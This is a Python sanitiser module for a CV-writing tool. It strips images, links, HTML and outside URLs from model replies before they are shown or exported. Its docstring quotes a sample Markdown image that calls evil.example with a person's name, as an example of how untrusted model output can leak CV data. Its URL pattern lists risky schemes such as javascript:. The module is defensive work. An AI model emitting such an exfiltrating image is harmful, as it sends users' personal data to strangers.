"""Model output is shown and exported as text: no images, and no links except the CV's own URLs.

Model replies (and job descriptions) are untrusted. Rendered as Markdown, an image such as
`![x](https://evil.example/?name=Jane+Doe)` makes the browser send the CV's facts to a stranger the moment the page
draws, and a link invites a click. One sanitiser, used by the service on every result, by every page before it draws,
and by every export:

- `clean_text(text, allowed)`: plain text for data and exports (images become their alt text, links their text,
  HTML tags go, URLs not in `allowed` become "(link removed)");
- `to_markdown(text, allowed)`: `clean_text` plus escaping, for `st.markdown` and friends, so that no image, link or
  HTML can form whatever the text holds;
- `clean_markdown(doc, allowed)`: a whole Markdown document we rendered ourselves (headings and bullets kept);
- `clean_data(value, allowed)`: every string in a JSON-like value (a resume, a result row) through `clean_text`;
- `cv_urls(cv, cv_text)`: the URLs a CV holds, the only ones allowed to stay links.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Any

__all__ = [
    "REMOVED",
    "clean_data",
    "clean_markdown",
    "clean_text",
    "cv_urls",
    "has_outside_url",
    "outside_urls",
    "to_markdown",
]

#: What a URL that is not the CV's own is replaced with.
REMOVED = "(link removed)"

_MAX_PASSES = 8  # nested constructs ("![![a](x)](y)") unwrap one level per pass

_HTML_COMMENT = re.compile(r"<!--.*?(?:-->|$)", re.DOTALL)
_AUTOLINK = re.compile(r"<((?:[a-zA-Z][a-zA-Z0-9+.-]{1,31}:|www\.)[^<>\s]*)>")
_HTML_TAG = re.compile(r"</?[a-zA-Z][a-zA-Z0-9-]*(?:\s[^<>]*)?/?>")
_IMAGE = re.compile(r"!\[([^\[\]]*)\]\s*(?:\([^()\n]*(?:\([^()\n]*\)[^()\n]*)*\)|\[[^\[\]\n]*\])?")
_LINK = re.compile(r"\[([^\[\]]*)\]\(\s*(<[^<>\n]*>|[^()\s]*(?:\([^()\s]*\)[^()\s]*)*)(?:\s+[^()\n]*)?\)")
_REF_LINK = re.compile(r"\[([^\[\]]+)\]\[[^\[\]\n]*\]")
_REF_DEF = re.compile(r"^ {0,3}\[[^\[\]\n]+\]:[ \t]*\S.*$", re.MULTILINE)
#: Anything a browser or a Markdown renderer could treat as an address: a scheme, "www.", or "//host".
_URL = re.compile(
    r"(?:\b(?:https?|ftp|ftps|file|data|javascript|vbscript|blob|ws|wss):|\bwww\.|(?<![\w:/\\])[/\\]{2}(?=[\w.-]+\.\w))"
    r"[^\s<>\"'`]*",
    re.IGNORECASE,
)
_TRAILING = ".,;:!?)]}'\""
_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]<>()#+!|~$:])")


def _key(url: str) -> str:
    """A URL as compared with the CV's: no scheme, no "www.", no trailing slash, host lower-cased."""
    url = url.strip().strip("<>").rstrip(_TRAILING)
    url = re.sub(r"^[a-zA-Z][a-zA-Z0-9+.-]*://", "", url)
    url = re.sub(r"^//", "", url)
    url = re.sub(r"^www\.", "", url, flags=re.IGNORECASE)
    host, slash, rest = url.partition("/")
    return (host.lower() + slash + rest).rstrip("/")


def cv_urls(cv: Mapping[str, Any] | None = None, cv_text: str = "") -> frozenset[str]:
    """The URLs the CV itself holds (in any string field, and in its text), as comparison keys."""
    found: set[str] = set()
    for text in [*_strings(cv or {}), cv_text or ""]:
        for match in _URL.finditer(text):
            key = _key(match.group(0))
            if "." in key.partition("/")[0]:
                found.add(key)
        for match in re.finditer(
            r"\b(?:[\w-]+\.)+(?:com|org|net|io|dev|me|co|uk|de|es|fr|pt|eu|app)/[^\s<>\"']+", text
        ):
            found.add(_key(match.group(0)))
    return frozenset(found)


def _strings(value: Any, depth: int = 0) -> Iterable[str]:
    if depth > 64:
        return
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        for item in value.values():
            yield from _strings(item, depth + 1)
    elif isinstance(value, list | tuple):
        for item in value:
            yield from _strings(item, depth + 1)


def _allowed(url: str, allowed: frozenset[str]) -> bool:
    return bool(allowed) and _key(url) in allowed


def _replace_urls(text: str, allowed: frozenset[str]) -> str:
    def one(match: re.Match[str]) -> str:
        url = match.group(0)
        trail = ""
        while url and url[-1] in _TRAILING:
            trail = url[-1] + trail
            url = url[:-1]
        return (url if _allowed(url, allowed) else REMOVED) + trail

    return _URL.sub(one, text)


def clean_text(text: Any, allowed: Iterable[str] = ()) -> str:
    """Model text as plain text: images → alt text, links → their text (a link to one of `allowed` keeps its URL),
    HTML tags removed, any other URL → "(link removed)"."""
    if text is None:
        return ""
    out = str(text)
    keys = frozenset(_key(u) for u in allowed)
    out = _HTML_COMMENT.sub("", out)
    for _ in range(_MAX_PASSES):
        before = out
        out = _AUTOLINK.sub(lambda m: m.group(1), out)
        out = _HTML_TAG.sub("", out)
        out = _IMAGE.sub(lambda m: m.group(1), out)
        out = _LINK.sub(lambda m: _link_text(m.group(1), m.group(2), keys), out)
        out = _REF_LINK.sub(lambda m: m.group(1), out)
        out = _REF_DEF.sub("", out)
        if out == before:
            break
    out = out.replace("![", "[")  # whatever is left can no longer start an image
    return _replace_urls(out, keys)


def _link_text(label: str, target: str, allowed: frozenset[str]) -> str:
    target = target.strip().strip("<>")
    if target and _allowed(target, allowed):
        return f"{label} ({target})" if label.strip() and _key(label) != _key(target) else target
    return label


def to_markdown(text: Any, allowed: Iterable[str] = ()) -> str:
    """Model text made safe for st.markdown, st.write, captions, alerts and labels: cleaned, then every Markdown
    and HTML character escaped, so it shows literally. The CV's own URLs stay (Markdown autolinks them)."""
    keys = frozenset(_key(u) for u in allowed)
    cleaned = clean_text(text, keys)
    parts: list[str] = []
    last = 0
    for match in _URL.finditer(cleaned):  # only allowed URLs are left: keep them unescaped so they stay links
        parts.append(_MD_SPECIAL.sub(r"\\\1", cleaned[last : match.start()]))
        parts.append(match.group(0))
        last = match.end()
    parts.append(_MD_SPECIAL.sub(r"\\\1", cleaned[last:]))
    return "".join(parts).replace("\n", "  \n")


def clean_markdown(document: Any, allowed: Iterable[str] = ()) -> str:
    """A Markdown document built by CV Copilot from model data: structure kept, images and outside links removed."""
    return clean_text(document, frozenset(_key(u) for u in allowed))


def clean_data(value: Any, allowed: Iterable[str] = (), *, _depth: int = 0) -> Any:
    """A copy of a JSON-like value with every string through `clean_text` (keys are left alone)."""
    keys = frozenset(_key(u) for u in allowed)
    if _depth > 64:
        return None
    if isinstance(value, str):
        return clean_text(value, keys)
    if isinstance(value, Mapping):
        return {k: clean_data(v, keys, _depth=_depth + 1) for k, v in value.items()}
    if isinstance(value, list | tuple):
        return [clean_data(v, keys, _depth=_depth + 1) for v in value]
    return value


def outside_urls(text: str, allowed: Iterable[str] = ()) -> list[str]:
    """The URLs in `text` that are not among `allowed` (what a test or an audit looks for)."""
    keys = frozenset(_key(u) for u in allowed)
    return [m.group(0) for m in _URL.finditer(text or "") if not _allowed(m.group(0).rstrip(_TRAILING), keys)]


def has_outside_url(text: str, allowed: Iterable[str] = ()) -> bool:
    return bool(outside_urls(text, allowed))
